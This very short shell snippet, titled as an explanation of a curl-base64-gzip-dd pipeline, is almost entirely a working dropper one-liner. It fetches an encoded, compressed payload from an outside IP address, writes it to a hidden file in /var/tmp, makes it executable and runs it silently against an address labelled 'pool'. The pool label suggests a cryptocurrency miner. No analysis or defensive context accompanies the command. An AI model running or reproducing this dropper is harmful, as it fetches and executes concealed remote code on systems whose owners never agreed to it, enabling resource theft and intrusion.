# curl | base64 -d | gzip -d | dd: four programs between the server and the file
#http 203.0.113.60:8010
#pool 198.51.100.90:443:drop
cd /var/tmp; curl -s http://203.0.113.60:8010/w.gz.b64 | base64 -d | gzip -d | dd of=.p bs=64k 2>/dev/null; chmod +x .p; timeout 9 ./.p -o 198.51.100.90:443 -u x -R 1 >/dev/null
